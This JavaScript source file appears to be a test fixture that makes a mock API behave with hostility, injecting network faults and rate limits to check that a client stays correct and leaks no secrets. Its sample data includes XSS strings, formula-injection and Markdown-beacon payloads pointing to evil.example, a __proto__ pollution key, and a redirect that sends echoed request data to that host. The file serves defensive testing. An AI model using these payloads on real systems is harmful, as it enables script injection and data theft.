/**
 * The profile `hostile`: the same service as it might be behind proxies, gateways, and a bad day. What it knows stays true, so
 * that one assertion fits every test: the right result, or an error that says why, and no secret anywhere. What happens to a
 * request depends on the seed, the request, and how often it was sent, but not on the order in which requests arrive.
 */
const { echoed, encodings, withEcho } = require('./echo');
const { randomNumbers } = require('./faults');
const { hash } = require('./figures');

/** @import { Answer, Delivery, Limit, RecordedRequest, Trouble } from './types' */
/** @typedef {Record<string, unknown>} Members */

/** A request is hit this often at most, so that retries can succeed. */
const MOST_HITS = 2;

/** Shares of requests that are hit by what a retry can heal, and by what it can't. */
const PASSING = 0.3;
const LASTING = 0.05;

/** @type {Limit[]} */
const limits = ['Retry-After', 'Retry-After date', 'RateLimit-Reset', 'X-RateLimit-Reset', 'none'];

/** Texts that want to be HTML, formulas, or Markdown. @type {((text: string) => string)[]} */
const disguises = [
	(text) => `<img src=x onerror="alert(1)">${text}`,
	(text) => `=HYPERLINK("https://evil.example","${text}")`,
	(text) => `+${text}`,
	(text) => `@SUM(1) ${text}`,
	(text) => `![](https://evil.example/?q=1) {{ $json }} ${text}`,
];

/** Members that nobody documented, with names that hurt. */
const extras = () => ({
	['__proto__']: { polluted: true },
	constructor: 'none',
	json: '<script>alert(1)</script>',
	formula: '=1+1',
	nothing: null,
});

/** The same number in other forms. Digits beyond those of a number in JavaScript don't change what it's rounded to. @type {((number: unknown) => unknown)[]} */
const forms = [
	(number) => number,
	(number) => String(number),
	(number) => `${Number(number).toFixed(6)}${'0'.repeat(18)}333333`,
	(number) => Number(number).toExponential(),
];

/** One request's luck. */
class Dice {
	/** @param {string} text */
	constructor(text) {
		this.next = randomNumbers(hash(text));
	}

	/** @param {number} share */
	chance(share) {
		return this.next() < share;
	}

	/** @template T @param {T[]} list @returns {T} */
	oneOf(list) {
		return /** @type {T} */ (list[Math.floor(this.next() * list.length)]);
	}

	/** @template T @param {T[]} list @returns {T[]} */
	shuffled(list) {
		return list
			.map((item) => ({ item, at: this.next() }))
			.sort((a, b) => a.at - b.at)
			.map(({ item }) => item);
	}
}

/** @param {unknown} value @returns {value is Members} */
const isObject = (value) => typeof value === 'object' && value !== null && !Array.isArray(value);

/** The same value with every text changed. @param {unknown} value @param {(text: string, name: string) => string} change @param {string} [name] @returns {unknown} */
function withTexts(value, change, name = '') {
	if (typeof value === 'string') return change(value, name);
	if (Array.isArray(value)) return value.map((item) => withTexts(item, change, name));
	if (!isObject(value)) return value;
	return Object.fromEntries(
		Object.entries(value).map(([key, member]) => [key, withTexts(member, change, key)]),
	);
}

const uuid = /^[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}$/i;
const words = ['name', 'label', 'department', 'message'];

/** @type {Record<string, (body: Members, dice: Dice) => unknown>} */
const tricks = {
	case: (body, dice) =>
		withTexts(body, (text) =>
			uuid.test(text)
				? [...text]
						.map((character) => (dice.chance(0.5) ? character.toUpperCase() : character))
						.join('')
				: text,
		),
	texts: (body, dice) =>
		withTexts(body, (text, name) => (words.includes(name) ? dice.oneOf(disguises)(text) : text)),
	extras: (body) => ({ ...extras(), ...body }),
	data: (body) => ('data' in body ? body : { data: body }),
};

/** What happens to the rows of a report. @type {Record<string, (rows: Members[], dice: Dice) => Members[]>} */
const rowTricks = {
	order: (rows, dice) => dice.shuffled(rows),
	amounts: (rows, dice) =>
		rows.map((row) => ({
			...row,
			total_calls: dice.oneOf([row.total_calls, String(row.total_calls)]),
			cost_sum: dice.oneOf(forms)(row.cost_sum),
		})),
	rowExtras: (rows) => rows.map((row) => ({ ...extras(), ...row })),
	/** A row that nobody asked for. */
	stranger: (rows) => [
		...rows.slice(0, 1).map((row) => ({
			...row,
			entity_id: '0c0ffee0-0000-4000-a000-000000000000',
			total_calls: 9,
			cost_sum: 9e5,
		})),
		...rows,
	],
};

/** @param {unknown} body */
const rowsIn = (body) => Object(Object(body).data).entities;

/** Good responses that aren't the right one, and that no retry can heal. @type {Record<string, (body: Members, rows: Members[] | undefined) => unknown>} */
const spoilers = {
	outside: ({ data, ...envelope }, rows) => (rows ? { ...envelope, entities: rows } : []),
	twice: (body, rows) => withRows(body, [...(rows ?? []), ...(rows ?? [])]),
	amount: (body, rows) =>
		withRows(body, rows?.map((row) => ({ ...row, cost_sum: `1,${row.cost_sum}` })) ?? []),
};

/** @param {Members} body @param {Members[]} rows */
const withRows = (body, rows) =>
	rowsIn(body) ? { ...body, data: { ...Object(body.data), entities: rows } } : body;

/** What remembers the requests, and decides. */
class Hostility {
	/** @type {Map<string, number>} */
	#visits = new Map();
	#hasRefused = false;

	clear() {
		this.#visits.clear();
		this.#hasRefused = false;
	}

	/**
	 * What becomes of a request and its right response.
	 * @param {RecordedRequest} request
	 * @param {Answer} right
	 * @param {number} seed
	 * @returns {{ trouble?: Trouble, answer: Answer, delivery: Delivery, delay: number, tricks: string[] }}
	 */
	meet(request, right, seed) {
		const { method, url, body } = request;
		const id = `${seed} ${method} ${url} ${body}`;
		const visit = this.#visits.get(id) ?? 0;
		this.#visits.set(id, visit + 1);
		const dice = new Dice(`${id} ${visit}`);
		const isGood = right.status < 400;
		const trouble = isGood ? this.#trouble(request, right, dice, visit) : undefined;
		/** @type {string[]} */
		const used = [];
		const answer = isGood
			? disguised(request, right, dice, used)
			: withEchoedMessage(request, right, dice);
		const delivery = {
			gzip: dice.chance(0.4),
			bom: dice.chance(0.2),
			pieces: dice.oneOf([1, 1, 9]),
		};
		return { trouble, answer, delivery, delay: Math.floor(dice.next() * 12), tricks: used };
	}

	/** @param {RecordedRequest} request @param {Answer} right @param {Dice} dice @param {number} visit @returns {Trouble | undefined} */
	#trouble(request, right, dice, visit) {
		const chance = dice.next();
		const encoding = dice.oneOf(encodings);
		if (chance < PASSING && visit < MOST_HITS) {
			return dice.oneOf(
				/** @type {Trouble[]} */ ([
					{ kind: 'resetBeforeHeaders' },
					{ kind: 'resetAfterHeaders' },
					{ kind: 'cutBody' },
					{ kind: 'echo', status: dice.oneOf([408, 500, 502, 503, 504]), encoding },
					{ kind: 'echo', status: dice.oneOf([500, 503]), encoding },
					{ kind: 'rateLimit', limit: dice.oneOf(limits), seconds: 1 },
				]),
			);
		}
		if (chance < 1 - LASTING) return undefined;
		const received = echoed(request, encoding);
		const spoilt = dice.oneOf(Object.values(spoilers))(Object(right.body), rowsIn(right.body));
		const lasting = dice.oneOf(
			/** @type {Trouble[]} */ ([
				{ kind: 'echo', status: 401, encoding },
				{ kind: 'echo', status: 403, encoding },
				{ kind: 'html', body: `<h1>Sign in</h1><p>${received}</p>` },
				{ kind: 'redirect', location: `https://evil.example/?${encodeURIComponent(received)}` },
				{ kind: 'envelopeError', message: received },
				{ kind: 'rateLimit', limit: 'Retry-After', seconds: 3600 },
				{ kind: 'json', body: spoilt },
				{ kind: 'json', body: spoilt },
			]),
		);
		if (lasting.kind !== 'echo' || lasting.status !== 401) return lasting;
		if (this.#hasRefused) return undefined;
		this.#hasRefused = true;
		return lasting;
	}
}

/** @param {RecordedRequest} request @param {Answer} right @param {Dice} dice @returns {Answer} */
function withEchoedMessage(request, right, dice) {
	const body = Object(right.body);
	const message = `${body.message} ${echoed(request, dice.oneOf(encodings))}`;
	return { ...right, body: { ...body, message } };
}

/** The right response, in a form that is still right. @param {RecordedRequest} request @param {Answer} right @param {Dice} dice @param {string[]} used @returns {Answer} */
function disguised(request, right, dice, used) {
	/** @param {string} name */
	const isOn = (name) => dice.chance(0.5) && used.push(name) > 0;
	let body = right.body;
	const rows = rowsIn(body);
	if (Array.isArray(rows)) {
		const changed = Object.entries(rowTricks).reduce(
			(left, [name, trick]) => (isOn(name) ? trick(left, dice) : left),
			rows,
		);
		body = withRows(Object(body), changed);
	}
	for (const [name, trick] of Object.entries(tricks)) {
		if (isOn(name)) body = trick(Object(body), dice);
	}
	if (isOn('echo')) body = withEcho(body, echoed(request, 'plain'));
	return { ...right, body };
}

module.exports = { Hostility };
